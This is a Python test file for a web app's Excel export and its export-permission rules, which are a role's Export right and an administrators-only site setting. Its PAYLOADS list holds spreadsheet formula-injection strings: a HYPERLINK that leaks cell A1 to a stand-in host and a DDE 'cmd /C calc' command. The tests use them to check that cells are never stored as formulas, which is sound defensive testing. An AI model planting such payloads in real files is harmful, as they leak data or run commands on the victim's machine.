"""A list's Excel export (issue 23, "Export"), and who may export at all: the role's Export
right and the site's setting "Who may export" (guide §7.1.2), on every bulk export path —
the list's CSV and Excel exports, the contacts' vCard export, the activities' .ics export
— refused with a message on the list, never an error page."""
import datetime as dt
import html
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from core.apps.admin import access_admin as aa
from core.kernel import i18n, users
from core.kernel.records import Query
from core.kernel.users import create_user
from core.testing import ADMIN_PASSWORD, signed_in
from core.web import exporting, xlsx_export

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PAYLOADS = ['=HYPERLINK("http://x.example?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "=1+2"]


@pytest.fixture
def gadgets(site, admin):
    rows = [{"name": f"G{i:03d}", "kind": "tool" if i % 3 else "toy", "quantity": i,
             "weight": Decimal("1.250") * i, "released_on": dt.date(2026, 3, 1 + i % 28),
             "last_seen_at": dt.datetime(2026, 3, 1, 10, 30, tzinfo=dt.UTC),
             "notes": f"note {i}", "assigned_user_id": admin.id} for i in range(1, 801)]
    rows += [{"name": payload, "kind": "other", "quantity": 0, "notes": payload}
             for payload in PAYLOADS]
    site.records.create_many("gadgets", rows, admin)
    return rows


def workbook(response) -> list[list]:
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"] == 'attachment; filename="gadgets.xlsx"'
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Gadgets"]
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def export(client, action="export_xlsx", **form):
    return client.post("/m/gadgets/action", data={"_csrf": client.csrf, "action": action,
                                                  **form})


def test_the_list_exports_as_a_workbook_with_numbers_and_dates(web, site, admin, gadgets):
    page = web.get("/m/gadgets").text
    assert '<button type="submit" name="action" value="export_xlsx"' in page
    rows = workbook(export(web, f_kind="tool", sort="-quantity"))
    assert rows[0] == ["Name", "Kind", "Status", "Quantity", "Widget"]
    assert len(rows) == 1 + 534  # every page of the list, in batches, in the list's order
    assert rows[1] == ["G800", "Tool", "Draft", 800, None]
    assert rows[-1] == ["G001", "Tool", "Draft", 1, None]
    assert all(isinstance(row[3], int) for row in rows[1:])  # numbers stay numbers

    # all fields: dates are dates, decimals numbers, datetimes on the user's clock (UTC)
    header, *body = workbook(export(web, f_kind="tool", q="G004", export_fields="all"))
    assert len(body) == 1
    g004 = dict(zip(header, body[0], strict=True))
    assert g004["Name"] == "G004" and g004["Notes"] == "note 4"
    assert g004["Weight"] == pytest.approx(5) and g004["Quantity"] == 4
    assert g004["Released on"] == dt.datetime(2026, 3, 5)
    assert g004["Last seen at"] == dt.datetime(2026, 3, 1, 10, 30)
    assert g004["Assigned to"] == "admin"  # a user's name, not an id

    # Excel has no time zones: a time is written as the user's clock shows it
    users.save_preferences(site, admin.id, i18n.Preferences(timezone="Europe/Oslo").to_dict())
    header, *body = workbook(export(web, f_kind="tool", q="G004", export_fields="all"))
    assert body[0][header.index("Last seen at")] == dt.datetime(2026, 3, 1, 11, 30)


def test_a_workbook_cell_is_never_a_formula(web, site, admin, gadgets):
    response = export(web, f_kind="other", export_fields="all")
    header, *body = workbook(response)
    names = [row[header.index("Name")] for row in body]
    assert sorted(names) == sorted(PAYLOADS)  # the text itself, unchanged
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    for row in book.active.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                assert cell.data_type == "s" and cell.quotePrefix, cell.value
    sheet = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet  # no formula stored anywhere
    # the ticked rows only, as the CSV export does
    ids = [r["id"] for r in site.records.list("gadgets", admin, Query(limit=None))
           if r["name"] in ("G005", "=1+2")]
    rows = workbook(export(web, ids=ids))
    assert sorted(r[0] for r in rows[1:]) == ["=1+2", "G005"]


def test_an_empty_list_gives_the_header_alone(web, gadgets):
    assert workbook(export(web, q="no such gadget")) == [["Name", "Kind", "Status", "Quantity",
                                                          "Widget"]]


def test_a_long_list_goes_on_to_a_second_sheet(tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx_export, "MAX_ROWS", 4)  # Excel's 1,048,576 rows, in small
    path = tmp_path / "big.xlsx"
    assert xlsx_export.write(path, "A:b/c", ["n"], ([i] for i in range(7))) == 7
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["A b c", "A b c (2)", "A b c (3)"]
    assert [[c for (c,) in s.iter_rows(values_only=True)] for s in book] == \
        [["n", 0, 1, 2], ["n", 3, 4, 5], ["n", 6]]


# -- who may export ----------------------------------------------------------------------------

@pytest.fixture
def rita(site, admin, gadgets):
    """A user whose role lists gadgets and contacts but may not export them."""
    user = create_user(site, "rita", ADMIN_PASSWORD)
    role = aa.create_role(site, "Readers")
    levels = {"view": "all", "list": "all", "export": "none"}
    aa.set_role_rules(site, role, {"gadgets": ("enabled", levels),
                                   "contacts": ("enabled", levels)})
    aa.set_role_users(site, role, add=[user.id])
    return user


@pytest.fixture
def sam(site, admin, gadgets):
    """A user of the Default Role: they may export, unless the site says admins only."""
    return create_user(site, "sam", ADMIN_PASSWORD)


@pytest.fixture
def contact(site, admin):
    return site.records.create("contacts", {"first_name": "Jane", "last_name": "Doe"}, admin)


def flash_of(response) -> str:
    found = re.search(r'<p class="flash (\w+)"[^>]*>(.*?)</p>', response.text, re.DOTALL)
    return f"{found.group(1)}: {html.unescape(found.group(2)).strip()}" if found else ""


def refused(client, response, message: str):
    """A refused export: back on the list (200, a page), the reason said, no file."""
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/html")
    assert "content-disposition" not in response.headers
    assert flash_of(response) == f"error: {message}"


def all_exports(client, contact):
    return [export(client, "export", all="1"), export(client, "export_xlsx", all="1"),
            client.post("/vcard/contacts?version=3.0", data={"_csrf": client.csrf,
                                                             "ids": [contact["id"]]})]


def test_a_role_without_the_export_right_is_refused_everywhere(site, rita, contact):
    with signed_in(site, "rita") as client:
        listing = client.get("/m/gadgets").text
        assert "G001" in listing  # she lists them
        assert 'value="export"' not in listing and 'value="export_xlsx"' not in listing
        assert "/vcard/contacts?version=3.0" not in client.get("/m/contacts").text
        csv_, xlsx, vcf = all_exports(client, contact)
        refused(client, csv_, "Your role does not allow exporting Gadgets.")
        refused(client, xlsx, "Your role does not allow exporting Gadgets.")
        refused(client, vcf, "Your role does not allow exporting Contacts.")


def test_admins_only_refuses_users_and_still_lets_administrators_export(site, sam, contact):
    with signed_in(site, "sam") as client:  # the default: users and administrators
        csv_, xlsx, vcf = all_exports(client, contact)
        assert csv_.headers["content-type"].startswith("text/csv") and "G001" in csv_.text
        assert xlsx.headers["content-type"] == XLSX
        assert vcf.headers["content-type"].startswith("text/vcard") and "Doe" in vcf.text

        exporting.save_export_who(site, exporting.ADMINS)
        listing = client.get("/m/gadgets").text
        assert 'value="export"' not in listing and 'value="export_xlsx"' not in listing
        contacts_page = client.get("/m/contacts").text
        assert "/vcard/contacts?version=3.0" not in contacts_page
        assert "/vcard/import" in contacts_page  # importing is another matter
        ics = client.post("/ical/export/meetings", data={"_csrf": client.csrf, "all": "1"})
        for response in [*all_exports(client, contact), ics]:
            refused(client, response, "Only administrators may export data on this site.")
        assert "/ical/export/meetings" not in client.get("/m/meetings").text
    with signed_in(site, "admin") as client:
        csv_, xlsx, vcf = all_exports(client, contact)
        assert "G001" in csv_.text and xlsx.headers["content-type"] == XLSX
        assert "Doe" in vcf.text


def test_the_setting_is_set_on_the_access_control_settings_page(site, admin):
    assert exporting.export_who(site) == "users"
    with signed_in(site, "admin") as client:
        page = client.get("/admin/access").text
        assert re.search(r'name="export_who" value="users"[^>]*checked', page)
        assert "Administrators only" in page
        response = client.post("/admin/access", data={"_csrf": client.csrf, "additive": "1",
                                                      "export_who": "admins"})
        assert response.status_code == 200
        assert exporting.export_who(site) == "admins"
        assert re.search(r'name="export_who" value="admins"[^>]*checked',
                         client.get("/admin/access").text)
        # a post without it (an older form) keeps it; a made-up value changes nothing
        client.post("/admin/access", data={"_csrf": client.csrf, "additive": "1"})
        client.post("/admin/access", data={"_csrf": client.csrf, "export_who": "everyone"})
        assert exporting.export_who(site) == "admins"
    site.set_setting(exporting.SETTING, {"who": "nonsense"})
    assert exporting.export_who(site) == "users"  # a broken value reads as the default
